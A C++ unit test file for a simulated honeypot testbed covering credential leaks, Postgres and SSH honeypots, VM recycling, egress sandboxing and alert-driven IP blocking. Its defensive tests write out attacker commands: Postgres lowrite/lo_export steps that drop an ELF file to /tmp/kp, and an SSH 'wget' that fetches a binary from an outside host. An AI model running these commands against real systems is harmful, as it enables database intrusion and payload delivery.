// Testbed components: credentials, honeypot services, VM lifecycle,
// sandbox isolation, and the alert pipeline with BHR response.

#include <gtest/gtest.h>

#include <cstdint>
#include <limits>
#include <memory>
#include <string>
#include <vector>

#include "testbed/testbed.hpp"
#include "util/rng.hpp"

namespace at::testbed {
namespace {

const incidents::Corpus& training() {
  static const incidents::Corpus corpus = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    return incidents::CorpusGenerator(config).generate();
  }();
  return corpus;
}

TEST(CredentialStoreTest, DefaultsAuthenticate) {
  CredentialStore store;
  store.add_defaults();
  const auto ok = store.authenticate("postgres", "postgres");
  ASSERT_TRUE(ok.has_value());
  EXPECT_TRUE(ok->is_default);
  EXPECT_FALSE(store.authenticate("postgres", "wrong").has_value());
  EXPECT_EQ(store.total_uses(), 1u);
}

TEST(CredentialStoreTest, LeakedCredentialsAttributeChannel) {
  CredentialStore store;
  const auto& leaked = store.leak(LeakChannel::kGitCommit, 100);
  const auto auth = store.authenticate(leaked.username, leaked.password);
  ASSERT_TRUE(auth.has_value());
  // The unique key ties the login back to where it was advertised.
  EXPECT_EQ(auth->channel, LeakChannel::kGitCommit);
  EXPECT_EQ(auth->leaked_at, 100);
}

TEST(CredentialStoreTest, LeaksAreUnique) {
  CredentialStore store;
  const auto a = store.leak(LeakChannel::kPasteSite, 0);
  const auto b = store.leak(LeakChannel::kPasteSite, 0);
  EXPECT_NE(a.password, b.password);
}

TEST(PostgresHoneypotTest, RansomwarePrimitives) {
  CredentialStore store;
  store.add_defaults();
  std::vector<monitors::ProcessEvent> processes;
  std::vector<monitors::SyscallEvent> syscalls;
  ServiceHooks hooks;
  hooks.on_process = [&](const monitors::ProcessEvent& e) { processes.push_back(e); };
  hooks.on_syscall = [&](const monitors::SyscallEvent& e) { syscalls.push_back(e); };
  PostgresHoneypot pg("pg-0", net::Ipv4(141, 142, 250, 1), store, hooks);

  auto session = pg.connect(net::Ipv4(111, 200, 1, 1), "postgres", "postgres", 10);
  ASSERT_TRUE(session.has_value());

  // Step 1: version recon.
  const auto version = pg.query(*session, "SHOW server_version_num", 20);
  EXPECT_TRUE(version.ok);
  EXPECT_EQ(version.response, "90121");
  // Step 2: hex-ELF payload.
  EXPECT_TRUE(pg.query(*session, "SELECT lowrite(0, decode('7F454C46','hex'))", 30).ok);
  // Step 3: export to disk.
  EXPECT_TRUE(pg.query(*session, "SELECT lo_export(16385, '/tmp/kp')", 40).ok);
  ASSERT_EQ(pg.files_on_disk().size(), 1u);
  EXPECT_EQ(pg.files_on_disk()[0], "/tmp/kp");
  // The drop surfaced as an execve-style audit event.
  ASSERT_FALSE(syscalls.empty());
  EXPECT_EQ(syscalls[0].path, "/tmp/kp");
  // Every step produced an observable process event.
  EXPECT_GE(processes.size(), 3u);
}

TEST(PostgresHoneypotTest, FailedAuthIsObservedAndCounted) {
  CredentialStore store;
  store.add_defaults();
  std::vector<net::Flow> flows;
  ServiceHooks hooks;
  hooks.on_flow = [&](const net::Flow& f) { flows.push_back(f); };
  PostgresHoneypot pg("pg-0", net::Ipv4(141, 142, 250, 1), store, hooks);
  EXPECT_FALSE(pg.connect(net::Ipv4(9, 9, 9, 9), "admin", "nope", 5).has_value());
  EXPECT_EQ(pg.failed_logins(), 1u);
  ASSERT_EQ(flows.size(), 1u);
  EXPECT_EQ(flows[0].state, net::ConnState::kRejected);
  EXPECT_EQ(flows[0].dst_port, net::ports::kPostgres);
}

TEST(PostgresHoneypotTest, QueriesRequireAuth) {
  CredentialStore store;
  ServiceHooks hooks;
  PostgresHoneypot pg("pg-0", net::Ipv4(141, 142, 250, 1), store, hooks);
  PostgresHoneypot::Session fake;
  EXPECT_FALSE(pg.query(fake, "SELECT 1", 0).ok);
}

TEST(SshHoneypotTest, KeyAuthAndExec) {
  std::vector<net::Flow> flows;
  std::vector<monitors::ProcessEvent> processes;
  ServiceHooks hooks;
  hooks.on_flow = [&](const net::Flow& f) { flows.push_back(f); };
  hooks.on_process = [&](const monitors::ProcessEvent& e) { processes.push_back(e); };
  SshHoneypot ssh("pg-1", net::Ipv4(141, 142, 250, 2), hooks);
  EXPECT_FALSE(ssh.login_with_key(net::Ipv4(1, 1, 1, 1), "unknown-key", 5));
  EXPECT_EQ(ssh.rejected_logins(), 1u);
  ssh.authorize_key("stolen-key");
  EXPECT_TRUE(ssh.login_with_key(net::Ipv4(1, 1, 1, 1), "stolen-key", 6));
  ssh.exec("postgres", "wget http://1.2.3.4/sys.x86_64", 7);
  ASSERT_EQ(processes.size(), 1u);
  EXPECT_EQ(processes[0].host, "pg-1");
  EXPECT_EQ(flows.size(), 2u);
}

TEST(VmManagerTest, SixteenEntryPointsOnTheSlash24) {
  VmManager manager;
  manager.provision_entry_points(1000);
  EXPECT_EQ(manager.instances().size(), 16u);
  EXPECT_EQ(manager.running_count(), 16u);
  for (const auto& instance : manager.instances()) {
    EXPECT_TRUE(net::blocks::honeypot24().contains(instance.address));
    EXPECT_EQ(instance.state, InstanceState::kRunning);
    EXPECT_EQ(instance.image, "pg-honeypot-immutable-v3");
  }
  // Addresses are distinct.
  std::set<std::uint32_t> addresses;
  for (const auto& instance : manager.instances()) {
    EXPECT_TRUE(addresses.insert(instance.address.value()).second);
  }
}

TEST(VmManagerTest, ShortLivedInstancesRecycle) {
  LifecycleConfig config;
  config.instance_ttl = 100;
  VmManager manager(config);
  manager.provision_entry_points(0);
  EXPECT_EQ(manager.tick(50), 0u);
  EXPECT_EQ(manager.tick(100), 16u);  // all expired -> recycled
  EXPECT_EQ(manager.total_recycled(), 16u);
  for (const auto& instance : manager.instances()) {
    EXPECT_EQ(instance.generation, 1u);
    EXPECT_EQ(instance.state, InstanceState::kRunning);
    EXPECT_EQ(instance.launched_at, 100);
  }
}

TEST(VmManagerTest, CaptureTriggersRecycle) {
  VmManager manager;
  manager.provision_entry_points(0);
  const auto id = manager.instances()[0].id;
  EXPECT_TRUE(manager.mark_capturing(id));
  EXPECT_FALSE(manager.mark_capturing(id));  // already capturing
  EXPECT_EQ(manager.tick(1), 1u);
  // Hostname and address survive the recycle (immutable image relaunch).
  EXPECT_EQ(manager.instances()[0].hostname, "pg-0");
  EXPECT_EQ(manager.instances()[0].generation, 1u);
}

TEST(VmManagerTest, AutoScaleUpToCeiling) {
  LifecycleConfig config;
  config.entry_points = 2;
  config.max_instances = 3;
  VmManager manager(config);
  manager.provision_entry_points(0);
  EXPECT_TRUE(manager.scale_up(1).has_value());
  EXPECT_FALSE(manager.scale_up(2).has_value());  // ceiling
  EXPECT_EQ(manager.instances().size(), 3u);
}

TEST(VmManagerTest, RejectsBadConfig) {
  LifecycleConfig config;
  config.entry_points = 0;
  EXPECT_THROW(VmManager{config}, std::invalid_argument);
  config.entry_points = 500;  // larger than the /24
  config.max_instances = 1000;
  EXPECT_THROW(VmManager{config}, std::invalid_argument);
}

TEST(SandboxTest, DropsEgressKeepsInternal) {
  NetworkSandbox sandbox;
  net::Flow flow;
  flow.src = net::blocks::honeypot24().host(1);
  // Lateral movement between honeypot instances is allowed (that is the
  // behaviour we want to capture).
  flow.dst = net::blocks::honeypot24().host(2);
  EXPECT_EQ(sandbox.judge(flow), EgressVerdict::kAllowedInternal);
  flow.dst = net::blocks::overlay().host(7);
  EXPECT_EQ(sandbox.judge(flow), EgressVerdict::kAllowedInternal);
  // A new connection to the Internet is dropped and logged.
  flow.dst = net::Ipv4(194, 145, 1, 1);
  EXPECT_EQ(sandbox.judge(flow), EgressVerdict::kDroppedEgress);
  EXPECT_EQ(sandbox.dropped(), 1u);
  ASSERT_EQ(sandbox.escape_attempts().size(), 1u);
  EXPECT_EQ(sandbox.escape_attempts()[0].dst, net::Ipv4(194, 145, 1, 1));
}

TEST(SandboxTest, WhitelistedMonitoringPlane) {
  SandboxConfig config;
  config.whitelist.push_back(net::Ipv4(141, 143, 0, 9));
  NetworkSandbox sandbox(config);
  net::Flow flow;
  flow.src = net::blocks::honeypot24().host(1);
  flow.dst = net::Ipv4(141, 143, 0, 9);
  EXPECT_EQ(sandbox.judge(flow), EgressVerdict::kAllowedWhitelisted);
}

TEST(PipelineTest, FiltersRepeatsAndTracksEntities) {
  bhr::BlackHoleRouter router;
  AlertPipeline pipeline(PipelineConfig{}, &router);
  alerts::Alert probe;
  probe.type = alerts::AlertType::kPortScan;
  probe.host = "node-1";
  probe.src = net::Ipv4(9, 9, 9, 9);
  for (int i = 0; i < 10; ++i) {
    probe.ts = i;
    pipeline.on_alert(probe);
  }
  EXPECT_EQ(pipeline.alerts_in(), 10u);
  EXPECT_EQ(pipeline.alerts_after_filter(), 1u);  // periodic repeats dropped
  EXPECT_EQ(pipeline.tracked_entities(), 1u);
}

TEST(PipelineTest, DetectionNotifiesAndBlocks) {
  bhr::BlackHoleRouter router;
  PipelineConfig config;
  config.block_ttl = 1000;
  AlertPipeline pipeline(config, &router);
  pipeline.add_detector("critical", [] {
    return std::make_unique<detect::CriticalAlertDetector>();
  });

  alerts::Alert alert;
  alert.ts = 42;
  alert.type = alerts::AlertType::kPrivilegeEscalation;
  alert.host = "node-1";
  alert.src = net::Ipv4(9, 9, 9, 9);
  pipeline.on_alert(alert);

  ASSERT_EQ(pipeline.notifications().size(), 1u);
  EXPECT_EQ(pipeline.notifications()[0].detector, "critical");
  EXPECT_EQ(pipeline.notifications()[0].entity, "host:node-1");
  // The pipeline called the BHR API.
  EXPECT_TRUE(router.is_blocked(net::Ipv4(9, 9, 9, 9), 43));
  EXPECT_FALSE(router.is_blocked(net::Ipv4(9, 9, 9, 9), 42 + 1001));  // TTL
}

TEST(PipelineTest, EntityStreamsAreIndependent) {
  // A signature split across two hosts must not fire — each entity's
  // matcher only sees its own substream. The rule-based detector makes
  // this deterministic (it needs the complete subsequence).
  AlertPipeline pipeline(PipelineConfig{}, nullptr);
  pipeline.add_detector("rules", [] {
    return std::make_unique<detect::RuleBasedDetector>(
        std::vector<detect::RuleBasedDetector::Signature>{
            {"motif",
             {alerts::AlertType::kDownloadSensitive, alerts::AlertType::kCompileSource,
              alerts::AlertType::kLogTampering}}});
  });
  alerts::Alert alert;
  alert.ts = 1;
  alert.type = alerts::AlertType::kDownloadSensitive;
  alert.host = "a";
  pipeline.on_alert(alert);
  alert.ts = 2;
  alert.type = alerts::AlertType::kCompileSource;
  alert.host = "b";
  pipeline.on_alert(alert);
  alert.ts = 3;
  alert.type = alerts::AlertType::kLogTampering;
  alert.host = "a";
  pipeline.on_alert(alert);
  alert.ts = 4;
  alert.host = "b";
  pipeline.on_alert(alert);
  EXPECT_EQ(pipeline.tracked_entities(), 2u);
  EXPECT_TRUE(pipeline.notifications().empty());
  // On one host the full motif *does* fire.
  alerts::Alert full;
  full.host = "c";
  for (const auto type : {alerts::AlertType::kDownloadSensitive,
                          alerts::AlertType::kCompileSource,
                          alerts::AlertType::kLogTampering}) {
    full.ts += 10;
    full.type = type;
    pipeline.on_alert(full);
  }
  ASSERT_EQ(pipeline.notifications().size(), 1u);
  EXPECT_EQ(pipeline.notifications()[0].entity, "host:c");
}

TEST(TestbedTest, DeployWiresEverything) {
  TestbedConfig config;
  Testbed bed(config, training());
  bed.deploy(0);
  EXPECT_EQ(bed.postgres().size(), 16u);
  EXPECT_EQ(bed.ssh().size(), 16u);
  EXPECT_EQ(bed.vms().running_count(), 16u);
  EXPECT_GE(bed.credentials().credentials().size(), 6u);  // defaults + leaks
  // Known-hosts federation: every instance knows the other fifteen.
  for (const auto& pg : bed.postgres()) {
    EXPECT_EQ(pg->known_hosts().size(), 15u);
  }
}

TEST(TestbedTest, MaintenanceChainReapsBlocksAndPrunesMonitorState) {
  TestbedConfig config;
  Testbed bed(config, training());
  bed.deploy(0);
  auto& engine = bed.engine();

  // One TTL'd block plus inbound probes that create Zeek window state.
  const net::Ipv4 scanner(198, 51, 100, 7);
  ASSERT_TRUE(bed.router().block(scanner, 0, 120, "scan", "test"));
  const net::Ipv4 prober(198, 51, 100, 8);
  for (int i = 0; i < 5; ++i) {
    net::Flow flow;
    flow.ts = i;
    flow.src = prober;
    flow.dst = bed.postgres().front()->address();
    flow.src_port = 40000;
    flow.dst_port = static_cast<std::uint16_t>(8000 + i);
    flow.state = net::ConnState::kAttempt;
    bed.inject_flow(flow);
  }
  EXPECT_GE(bed.zeek().tracked_sources(), 1u);

  bed.schedule_maintenance(60, 600);
  engine.run();  // bounded chain: run() must drain and terminate

  const auto& stats = bed.maintenance_stats();
  EXPECT_EQ(stats.ticks, 10u);  // t = 60, 120, ..., 600
  EXPECT_EQ(stats.blocks_expired, 1u);  // the TTL'd block, reaped at t=120
  EXPECT_GE(stats.monitor_state_pruned, 1u);
  EXPECT_EQ(bed.zeek().tracked_sources(), 0u);
  EXPECT_FALSE(bed.router().is_blocked(scanner, engine.now()));
  EXPECT_EQ(engine.pending(), 0u);
  EXPECT_EQ(engine.now(), 600);
}

TEST(TestbedTest, InjectFlowPathways) {
  TestbedConfig config;
  Testbed bed(config, training());
  bed.deploy(0);
  // Blocked source is dropped at the BHR.
  bed.router().block(net::Ipv4(6, 6, 6, 6), 0, 0, "test", "t");
  net::Flow flow;
  flow.ts = 10;
  flow.src = net::Ipv4(6, 6, 6, 6);
  flow.dst = bed.postgres()[0]->address();
  flow.dst_port = net::ports::kPostgres;
  EXPECT_FALSE(bed.inject_flow(flow));
  // Unblocked attempts are recorded as scans and reach Zeek.
  flow.src = net::Ipv4(7, 7, 7, 7);
  EXPECT_TRUE(bed.inject_flow(flow));
  EXPECT_EQ(bed.scan_recorder().total_probes(), 1u);
  EXPECT_EQ(bed.zeek().flows_seen(), 1u);
  // Honeypot-originated egress is dropped but still observed by Zeek.
  net::Flow egress;
  egress.ts = 20;
  egress.src = bed.postgres()[0]->address();
  egress.dst = net::Ipv4(194, 145, 1, 1);
  egress.state = net::ConnState::kEstablished;
  EXPECT_FALSE(bed.inject_flow(egress));
  EXPECT_EQ(bed.sandbox().dropped(), 1u);
  EXPECT_EQ(bed.zeek().flows_seen(), 2u);
}

TEST(TestbedTest, OnlyAttemptsOnTheProtectedSpaceAreScans) {
  TestbedConfig config;
  Testbed bed(config, training());
  bed.deploy(0);
  // A honeypot's outbound connection attempt: observed by Zeek, dropped
  // by the sandbox, but not a probe of the /16 (its destination's low 16
  // bits must not land in the target set as an internal host).
  net::Flow egress;
  egress.ts = 10;
  egress.src = bed.postgres()[0]->address();
  egress.dst = net::Ipv4(194, 145, 1, 1);
  egress.dst_port = 4444;
  egress.state = net::ConnState::kAttempt;
  EXPECT_FALSE(bed.inject_flow(egress));
  EXPECT_EQ(bed.inject_flows(std::span<const net::Flow>(&egress, 1)), 0u);
  EXPECT_EQ(bed.zeek().flows_seen(), 2u);
  EXPECT_EQ(bed.scan_recorder().total_probes(), 0u);
  EXPECT_EQ(bed.scan_recorder().distinct_sources(), 0u);
  // An external attempt on a honeypot inside the /16 is a scan.
  net::Flow probe = egress;
  probe.src = net::Ipv4(194, 145, 1, 1);
  probe.dst = bed.postgres()[0]->address();
  probe.dst_port = net::ports::kPostgres;
  EXPECT_TRUE(bed.inject_flow(probe));
  EXPECT_EQ(bed.inject_flows(std::span<const net::Flow>(&probe, 1)), 1u);
  EXPECT_EQ(bed.scan_recorder().total_probes(), 2u);
  const auto top = bed.scan_recorder().top_scanners(1);
  ASSERT_EQ(top.size(), 1u);
  EXPECT_EQ(top[0].source, probe.src);
  EXPECT_EQ(top[0].distinct_targets, 1u);
}

TEST(TestbedTest, InjectFlowsFixesVerdictsPerChunk) {
  TestbedConfig config;
  config.ssh_auditor.failure_threshold = 3;
  const net::Ipv4 bruteforcer(203, 0, 113, 9);
  constexpr std::size_t kChunk = Testbed::kInjectChunk;

  // Bystander traffic, except that three failed logins from the
  // bruteforcer trip the auditor's block on flow 2, and flow 3 (same
  // chunk) and flow kChunk (first of the next chunk) come from it too.
  const auto make_flows = [&](net::Ipv4 honeypot) {
    std::vector<net::Flow> flows(kChunk + 1);
    for (net::Flow& flow : flows) {
      flow.ts = 100;
      flow.src = net::Ipv4(203, 0, 113, 10);
      flow.dst = honeypot;
      flow.dst_port = net::ports::kHttps;
      flow.state = net::ConnState::kEstablished;
    }
    for (const std::size_t i : {std::size_t{0}, std::size_t{1}, std::size_t{2},
                                std::size_t{3}, kChunk}) {
      flows[i].src = bruteforcer;
      flows[i].dst_port = net::ports::kSsh;
      flows[i].state = net::ConnState::kRejected;
    }
    return flows;
  };

  Testbed batched(config, training());
  batched.deploy(0);
  EXPECT_EQ(batched.inject_flows(make_flows(batched.postgres()[0]->address())),
            kChunk);  // all of chunk 0, none of chunk 1
  EXPECT_EQ(batched.ssh_auditor().blocks_issued(), 1u);
  EXPECT_TRUE(batched.router().is_blocked(bruteforcer, 100));
  EXPECT_EQ(batched.zeek().flows_seen(), kChunk);

  // inject_flow applies the block at once: flow 3 is already dropped.
  Testbed single(config, training());
  single.deploy(0);
  std::vector<bool> admitted;
  for (const auto& flow : make_flows(single.postgres()[0]->address())) {
    admitted.push_back(single.inject_flow(flow));
  }
  EXPECT_TRUE(admitted[2]);
  EXPECT_FALSE(admitted[3]);
  EXPECT_FALSE(admitted[kChunk]);
  EXPECT_EQ(single.zeek().flows_seen(), kChunk - 1);
}

/// Seeded hostile traffic for the inject_flow/inject_flows boundary: edge
/// ports and byte counts, src == dst, every ConnState, and sources drawn
/// from a few fixed externals (so the SSH auditor and Zeek thresholds
/// trip and blocks land mid-run), the honeypot segment, the sandbox
/// overlay and the protected /16 (which the BHR refuses to block).
std::vector<net::Flow> hostile_flows(std::uint64_t seed, std::size_t n) {
  util::Rng rng(seed);
  const net::Cidr pools[] = {net::blocks::honeypot24(), net::blocks::overlay(),
                             net::blocks::ncsa16()};
  const auto address = [&] {
    const auto pick = rng.uniform_int(0, 3);
    if (pick == 3) return net::Ipv4(203, 0, 113, static_cast<std::uint8_t>(rng.uniform_int(1, 8)));
    const net::Cidr& pool = pools[pick];
    return pool.host(static_cast<std::uint64_t>(
        rng.uniform_int(0, static_cast<std::int64_t>(pool.host_count()) - 1)));
  };
  const auto port = [&] {
    constexpr std::uint16_t kPorts[] = {0, 65535, net::ports::kSsh, net::ports::kPostgres};
    return kPorts[rng.uniform_int(0, 3)];
  };
  const auto bytes = [&]() -> std::uint64_t {
    switch (rng.uniform_int(0, 2)) {
      case 0: return 0;
      case 1: return std::numeric_limits<std::uint64_t>::max();
      default: return static_cast<std::uint64_t>(rng.uniform_int(1, 1LL << 40));
    }
  };
  std::vector<net::Flow> flows(n);
  for (net::Flow& flow : flows) {
    flow.ts = rng.uniform_int(0, 2 * util::kHour);
    flow.src = address();
    flow.dst = rng.bernoulli(0.1) ? flow.src : address();
    flow.src_port = port();
    flow.dst_port = port();
    flow.proto = static_cast<net::Proto>(rng.uniform_int(0, 2));
    flow.state = static_cast<net::ConnState>(rng.uniform_int(0, 2));
    flow.bytes_out = bytes();
    flow.bytes_in = bytes();
  }
  return flows;
}

/// A deployed bed with one hostile source black-holed up front, so the
/// BHR drops from the first flow on.
std::unique_ptr<Testbed> hostile_bed() {
  auto bed = std::make_unique<Testbed>(TestbedConfig{}, training());
  bed->deploy(0);
  EXPECT_TRUE(bed->router().block(net::Ipv4(203, 0, 113, 1), 0, 0, "test", "t"));
  return bed;
}

constexpr std::size_t kHostileFlows = 20'000;

TEST(TestbedHostileFlows, InjectFlowSurvives) {
  for (const std::uint64_t seed : {1u, 2u, 3u}) {
    SCOPED_TRACE("seed " + std::to_string(seed));
    const auto bed = hostile_bed();
    const auto flows = hostile_flows(seed, kHostileFlows);
    std::size_t delivered = 0;
    for (const auto& flow : flows) delivered += bed->inject_flow(flow) ? 1 : 0;
    EXPECT_LE(delivered, flows.size());
    EXPECT_GT(bed->router().dropped_flows(), 0u);
    EXPECT_EQ(bed->router().dropped_flows() + bed->router().passed_flows(), flows.size());
  }
}

TEST(TestbedHostileFlows, InjectFlowsSurvives) {
  for (const std::uint64_t seed : {1u, 2u, 3u}) {
    SCOPED_TRACE("seed " + std::to_string(seed));
    const auto bed = hostile_bed();
    const auto flows = hostile_flows(seed, kHostileFlows);
    EXPECT_LE(bed->inject_flows(flows), flows.size());
    EXPECT_GT(bed->router().dropped_flows(), 0u);
    EXPECT_EQ(bed->router().dropped_flows() + bed->router().passed_flows(), flows.size());
  }
}

}  // namespace
}  // namespace at::testbed
